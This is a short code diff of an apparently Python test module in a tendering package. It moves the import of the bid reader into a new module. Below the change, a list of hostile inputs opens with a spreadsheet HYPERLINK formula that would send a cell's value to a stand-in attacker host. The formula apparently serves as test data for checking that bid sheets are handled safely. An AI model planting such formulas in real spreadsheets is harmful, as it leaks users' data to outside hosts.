@@ -20,7 +20,8 @@ from wijkwerk.core.files import (
     set_text,
     write_csv,
 )
-from wijkwerk.tendering.billsheet import read_bid, template_workbook
+from wijkwerk.tendering.billsheet import template_workbook
+from wijkwerk.tendering.sheetread import read_bid
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")',
